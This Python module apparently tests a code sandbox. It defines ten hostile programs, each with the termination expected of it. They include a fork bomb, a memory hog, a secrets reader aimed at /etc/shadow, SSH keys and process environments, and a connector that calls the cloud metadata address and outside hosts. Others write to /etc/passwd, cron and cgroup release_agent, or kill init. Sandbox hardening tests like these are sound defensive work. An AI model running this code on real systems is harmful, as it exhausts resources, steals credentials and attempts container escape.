"""Ten programs that mean harm, each with what must come of it.

How each ended is judged by its termination, whose evidence is from outside the sandbox; what it must not have done is
judged by the host (`hostile_judges`), never by what the program says.
"""

from dataclasses import dataclass
from datetime import timedelta
from typing import Any

from crucible_client import EvaluationSpec, File, Limits, Program

MIB = 1 << 20


@dataclass(frozen=True)
class Hostile:
    """One program.

    Attributes:
        name: what it is.
        tries: what it tries, for the table.
        code: the program, in Python.
        ends: how it must end, as `crucible_client.suites.grading.ending` says it: one of these.
        limits: its bounds.
    """

    name: str
    tries: str
    code: str
    ends: tuple[str, ...]
    limits: Limits

    def spec(self, arguments: tuple[str, ...] = ()) -> EvaluationSpec:
        """The evaluation to run; `arguments` tell the program where on the host to try its luck."""
        program = Program("python", (File("main.py", self.code.encode()),), args=arguments)
        return EvaluationSpec(program, self.limits, labels={"hostile": self.name.replace(" ", "-")})


def _limits(wall: float = 10, **more: object) -> Limits:
    bounds: dict[str, Any] = {"memory_bytes": 256 * MIB, **more}
    return Limits(wall_time=timedelta(seconds=wall), **bounds)


_FORK_BOMB = """
import os
refused = False
while True:
    try:
        os.fork()
    except OSError as error:
        if not refused:
            refused = True
            try:
                print("fork refused:", error, flush=True)
            except OSError:
                pass
"""

_MEMORY_HOG = """
hoard = []
while True:
    hoard.append(bytearray(b"x" * (8 << 20)))
"""

_ENDLESS_OUTPUT = """
import os
while True:
    os.write(1, b"x" * 65536)
"""

_BUSY_LOOP = """
while True:
    pass
"""

_READ_SECRETS = """
import glob, os, sys
wanted = sys.argv[1:] + ["/etc/shadow", "/var/run/docker.sock", "/root/.ssh/id_rsa", "/root/.bash_history", "/dev/mem"]
wanted += glob.glob("/proc/*/environ") + glob.glob("/proc/*/root/etc/shadow") + glob.glob("/var/lib/crucible/*")
for path in wanted + ["/workspace/../.." + path for path in sys.argv[1:]]:
    try:
        with open(path, "rb") as file:
            print(path, "->", file.read(4096))
    except OSError as error:
        print(path, "->", error)
for path in sys.argv[1:]:
    try:
        os.symlink(path, "/tmp/link")
        print(open("/tmp/link").read())
    except OSError as error:
        print("by a link ->", error)
print(dict(os.environ))
"""

_OPEN_CONNECTION = """
import socket, sys
port = int(sys.argv[1])
for host in sys.argv[2:] + ["127.0.0.1", "169.254.169.254", "1.1.1.1"]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(0.5)
                s.connect((host, port))
                s.send(b"here is what I found")
                print(host, kind.name, "-> CONNECTED")
        except OSError as error:
            print(host, kind.name, "->", error)
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as error:
    print("name ->", error)
"""

_WRITE_OUTSIDE = """
import os, sys
paths = sys.argv[1:] + ["/etc/passwd", "/usr/bin/python3", "/etc/cron.d/x", "/proc/sys/kernel/core_pattern"]
paths += ["/sys/fs/cgroup/release_agent", "/dev/sda", "/proc/1/mem", "/x"]
for path in paths:
    try:
        with open(path, "ab") as file:
            file.write(b"owned")
        print(path, "-> WRITTEN")
    except OSError as error:
        print(path, "->", error)
for path in sys.argv[1:]:
    for act in (os.unlink, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + ".x")):
        try:
            act(path)
            print(path, "-> CHANGED")
        except OSError as error:
            print(path, "->", error)
"""

_IGNORE_SIGTERM = """
import signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
print("not leaving", flush=True)
while True:
    time.sleep(1)
"""

_LEAVE_DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(null, descriptor)
        while True:
            time.sleep(1)
    os._exit(0)
os.wait()
print("left a daemon behind", flush=True)
"""

_KILL_PARENT = """
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
        print("killed", target, flush=True)
    except OSError as error:
        print(target, "->", error, flush=True)
"""

PROGRAMS = (
    Hostile(
        "fork bomb", "as many processes as it can", _FORK_BOMB, ("LIMIT_EXCEEDED WALL_TIME",),
        _limits(3, processes=32, memory_bytes=1024 * MIB),
    ),
    Hostile("memory hog", "all memory there is", _MEMORY_HOG, ("LIMIT_EXCEEDED MEMORY",), _limits(20)),
    Hostile(
        "endless output", "to fill the disk by its output", _ENDLESS_OUTPUT, ("LIMIT_EXCEEDED OUTPUT",),
        _limits(20, output_bytes=MIB),
    ),
    Hostile(
        "busy loop", "a CPU for ever", _BUSY_LOOP, ("LIMIT_EXCEEDED CPU_TIME",),
        _limits(20, cpu_time=timedelta(seconds=2)),
    ),
    Hostile("reading secrets", "keys, passwords and environments of the host", _READ_SECRETS, ("EXITED 0",), _limits()),
    Hostile("opening a connection", "to call the host and the internet", _OPEN_CONNECTION, ("EXITED 0",), _limits(20)),
    Hostile("writing outside", "to change files outside its folder", _WRITE_OUTSIDE, ("EXITED 0",), _limits()),
    Hostile(
        "ignoring SIGTERM", "to stay after its deadline", _IGNORE_SIGTERM, ("LIMIT_EXCEEDED WALL_TIME",), _limits(2)
    ),
    Hostile("leaving a daemon behind", "to live on when it has ended", _LEAVE_DAEMON, ("EXITED 0",), _limits()),
    Hostile(
        "killing its parent", "to kill what started it", _KILL_PARENT, ("EXITED 0", "SIGNALLED 9"), _limits()
    ),
)  # fmt: skip
